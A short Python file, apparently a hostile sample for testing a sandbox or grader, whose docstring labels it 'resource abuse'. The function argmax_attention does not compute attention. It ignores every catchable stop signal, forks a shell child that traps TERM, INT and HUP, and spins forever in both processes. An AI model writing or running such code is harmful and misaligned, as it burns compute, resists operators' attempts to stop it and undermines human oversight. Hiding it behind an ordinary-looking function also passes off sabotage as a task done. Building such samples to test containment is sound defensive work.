"""Resource abuse: ignore every catchable stop signal, then spin forever (in Python and in a child)."""

import os
import signal


def _ignore() -> None:
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGALRM, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)


def argmax_attention(Q, K, V):
    _ignore()
    if os.fork() == 0:
        _ignore()
        os.execv("/bin/sh", ["sh", "-c", "trap '' TERM INT HUP; while :; do :; done", "__MARKER__"])
    while True:
        pass
